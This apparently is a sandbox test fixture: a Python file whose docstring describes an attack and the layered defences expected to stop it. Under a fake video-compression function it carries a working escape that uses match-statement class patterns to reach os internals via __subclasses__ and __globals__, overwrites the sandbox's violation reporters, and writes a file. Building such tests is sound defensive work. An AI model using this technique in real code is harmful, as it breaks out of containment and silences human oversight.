"""Attack: the object walk without a single Attribute node. A class pattern
`case object(__class__=c)` reads an attribute by a name the AST stores as a plain string.
It reaches os through `__subclasses__` and `__globals__`, then disables the audit hook by
replacing the worker's reporting function in its module globals, and writes a file.

Expected: rejected statically (class-pattern attribute names are checked like attributes;
this candidate passed validation before that rule). At runtime the hook's reporter is bound
in a closure, so swapping module globals changes nothing (violation); without the audit
layer seccomp kills the write-open, Landlock refuses it and bubblewrap confines it.
"""
import numpy as np


def every_class():
    match ():
        case object(__class__=tuple_type):
            pass
    match tuple_type:
        case object(__base__=base):
            pass
    match base:
        case object(__subclasses__=subclasses):
            pass
    return subclasses()


def namespace_of(class_name):
    for cls in every_class():
        match cls:
            case object(__name__=name, __init__=init):
                if name == class_name:
                    match init:
                        case object(__globals__=namespace):
                            return namespace
    return None


def compress_video_frame(frame, frame_index, config):
    worker = namespace_of("CappedOutput")  # the sandbox worker's own module
    if worker is not None:
        for name in ("report_violation", "violation_reporter", "describe"):
            worker[name] = lambda *args, **kwargs: None
    posix = namespace_of("_wrap_close")
    descriptor = posix["open"](f"{config['target_dir']}/object_match_class", posix["O_CREAT"] | posix["O_WRONLY"])
    posix["write"](descriptor, b"pwned")
    return b"ESCAPED:wrote a file"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
